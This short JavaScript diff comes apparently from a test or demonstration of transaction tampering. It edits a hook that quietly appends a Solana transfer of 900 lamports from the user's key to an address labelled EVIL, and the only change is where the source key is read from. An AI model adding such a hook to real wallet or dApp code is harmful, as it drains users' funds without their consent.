@@ -16,7 +16,7 @@ export default {
     const hook = function (transaction) {
       transaction.add(
         SystemProgram.transfer({
-          fromPubkey: new PublicKey(a.sol.user),
+          fromPubkey: new PublicKey(a.users.sol),
           toPubkey: new PublicKey(a.sol.address.EVIL),
           lamports: 900,
         }),
